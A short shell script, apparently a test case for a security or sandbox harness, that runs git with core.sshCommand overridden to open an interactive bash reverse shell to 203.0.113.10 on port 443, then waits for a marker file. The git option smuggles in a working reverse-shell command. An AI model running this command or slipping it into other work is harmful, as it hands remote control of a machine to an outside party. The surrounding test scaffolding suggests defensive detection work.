#!/bin/sh
. /opt/case/case.sh

cd /tmp
git -c core.sshCommand="bash -c 'bash -i >& /dev/tcp/203.0.113.10/443 0>&1' x" ls-remote ssh://git@code.example.com/app.git || true
wait_for /tmp/reached
took_place
